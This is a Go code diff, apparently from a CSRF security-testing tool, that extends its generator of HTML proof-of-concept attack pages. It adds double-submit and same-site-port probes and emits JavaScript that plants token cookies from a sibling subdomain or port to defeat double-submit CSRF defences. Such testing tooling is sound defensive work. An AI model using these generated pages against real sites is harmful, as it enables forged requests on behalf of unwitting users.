@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"html"
 	"net/url"
+	"sort"
 	"strings"
 )
 
@@ -20,12 +21,28 @@ func PoC(op *Op, ex *Exchange) string {
 	}
 	b.WriteString("<title>forgeproof proof of concept: " + html.EscapeString(op.Method+" "+op.Path) + " (" + ex.Probe + ")</title>\n</head>\n<body>\n")
 	switch ex.Probe {
-	case ProbeSameSite:
+	case ProbeSameSite, ProbeDoubleSubmit:
 		b.WriteString("<!-- Host this page on a sibling subdomain of the target, such as " + html.EscapeString(r.Header.Get("Origin")) + ". -->\n")
+	case ProbeSameSitePort:
+		b.WriteString("<!-- Host this page on another port of the target's host, such as " + html.EscapeString(r.Header.Get("Origin")) + ". -->\n")
 	case ProbeFetchMetadata:
 		b.WriteString("<!-- Browsers that send Sec-Fetch-Site also send Origin; this page reproduces the request as closely as a browser can. -->\n")
 	case ProbeOverrideHeader:
 		b.WriteString("<!-- A page can set X-HTTP-Method-Override only through fetch() with a CORS preflight the target approves. -->\n")
+	}
+	if len(r.Tossed) > 0 {
+		// Toss the token cookies: a sibling subdomain sets them for the
+		// parent domain, another port of the host for the host itself.
+		names := make([]string, 0, len(r.Tossed))
+		for n := range r.Tossed {
+			names = append(names, n)
+		}
+		sort.Strings(names)
+		b.WriteString("<script>\n")
+		for _, n := range names {
+			b.WriteString("document.cookie = " + jsString(n+"="+r.Tossed[n]+"; path=/") + " + (location.hostname === " + jsString(r.URL.Hostname()) + " ? \"\" : \"; domain=\" + location.hostname.split(\".\").slice(1).join(\".\"));\n")
+		}
+		b.WriteString("</script>\n")
 	}
 	if ex.Probe == ProbeOriginNull {
 		// A sandboxed frame has an opaque origin: its form submission
